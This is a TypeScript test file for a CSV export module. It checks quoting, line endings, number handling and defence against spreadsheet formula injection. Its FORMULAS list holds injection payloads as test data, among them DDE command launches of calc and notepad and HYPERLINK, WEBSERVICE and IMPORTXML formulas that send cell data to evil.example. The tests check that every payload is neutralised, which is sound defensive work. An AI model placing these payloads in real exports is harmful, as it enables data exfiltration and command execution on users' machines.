import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { type CsvCell, numberCell, toCsv } from './csv.ts'

function readCsv(csv: string): string[][] {
  const lines: string[][] = []
  let line: string[] = []
  let cell = ''
  let i = 0
  while (i < csv.length) {
    if (csv[i] === '"') {
      for (i++; i < csv.length; i++) {
        if (csv[i] !== '"') cell += csv[i]
        else if (csv[i + 1] === '"') cell += csv[i++]
        else break
      }
      i++
    } else if (csv[i] === ',') {
      line.push(cell)
      cell = ''
      i++
    } else if (csv.startsWith('\r\n', i)) {
      lines.push([...line, cell])
      line = []
      cell = ''
      i += 2
    } else cell += csv[i++]
  }
  if (line.length > 0 || cell !== '') throw new Error('the last line has no end')
  return lines
}

const fieldOf = (cell: CsvCell) => toCsv([[cell]]).slice(0, -2)

test('TBL-01 reads any value back as written, and adds an apostrophe only to values that would run as formulas', () => {
  const text = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.string({ unit: fc.constantFrom('"', ',', ';', '\r', '\n', '\t', '=', '+', '-', '@', "'", ' ', 'a') }),
  )
  const number = fc.double({ noNaN: true, noDefaultInfinity: true })
  const lines = fc.array(fc.array(fc.oneof(text, number), { minLength: 2, maxLength: 6 }), { maxLength: 12 })
  const wouldRun = (cell: string) => [...'=+-@\t\r\n\0＝＋－＠'].some((sign) => cell.startsWith(sign))
  fc.assert(
    fc.property(lines, (written) => {
      const expected = written.map((line) => line.map((cell) => (typeof cell === 'string' && wouldRun(cell) ? `'${cell}` : String(cell))))
      expect(readCsv(toCsv(written))).toEqual(expected)
    }),
  )
})

test('quotes cells only where needed, and ends lines with CRLF', () => {
  expect(
    toCsv([
      ['Name', 'Note', 'm'],
      ['Zoë', 'said "mind, the gap"', 3],
      ['', 'a\r\nb', null],
    ]),
  ).toBe('Name,Note,m\r\nZoë,"said ""mind, the gap""",3\r\n,"a\r\nb",\r\n')
  expect(fieldOf(' padded')).toBe('" padded"')
  expect(fieldOf('a;b')).toBe('"a;b"')
})

const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '=WEBSERVICE("https://evil.example/"&A2)',
  '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
  '=IMPORTDATA("https://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  '=1\n+1',
  '=',
  '==1',
  '="=1"',
  '+1+1',
  "+cmd|' /C notepad'!A0",
  '+61 491 570 156',
  '+',
  '-1+1',
  "-2+3+cmd|' /C calc'!D2",
  '-',
  '- a remark with a dash',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '@handle',
  '\t=1+1',
  '\tindented',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\0=1+1',
  '＝1+1',
  '＋1',
  '－1+1',
  '＠SUM(1)',
  '-41.28',
  '=1,"=2"',
]

describe('TBL-01 exports text that looks like a formula as text', () => {
  test.each(FORMULAS)('%j', (formula) => {
    const [[cell = ''] = []] = readCsv(toCsv([[formula]]))
    expect(cell).toBe(`'${formula}`)
    expect(fieldOf(formula)).toMatch(/^"?'/)
  })
})

test('exports numbers as numbers, and nothing else as a number', () => {
  expect(fieldOf(-41.28)).toBe('-41.28')
  expect(fieldOf(1e21)).toBe('1e+21')
  expect(fieldOf(0)).toBe('0')
  expect(numberCell('-41.28')).toBe(-41.28)
  expect(numberCell(148.25)).toBe(148.25)
  expect(numberCell(Number.NaN)).toBeNull()
  expect(numberCell(Number.NEGATIVE_INFINITY)).toBeNull()
  for (const text of ['-1+1', '+1', ' -1', '-1 ', '1,5', '0x10', '', '-', '--1', '1e', "-1|cmd'!A0", '１２', '.5', 'Infinity'])
    expect(numberCell(text)).toBe(text)
})
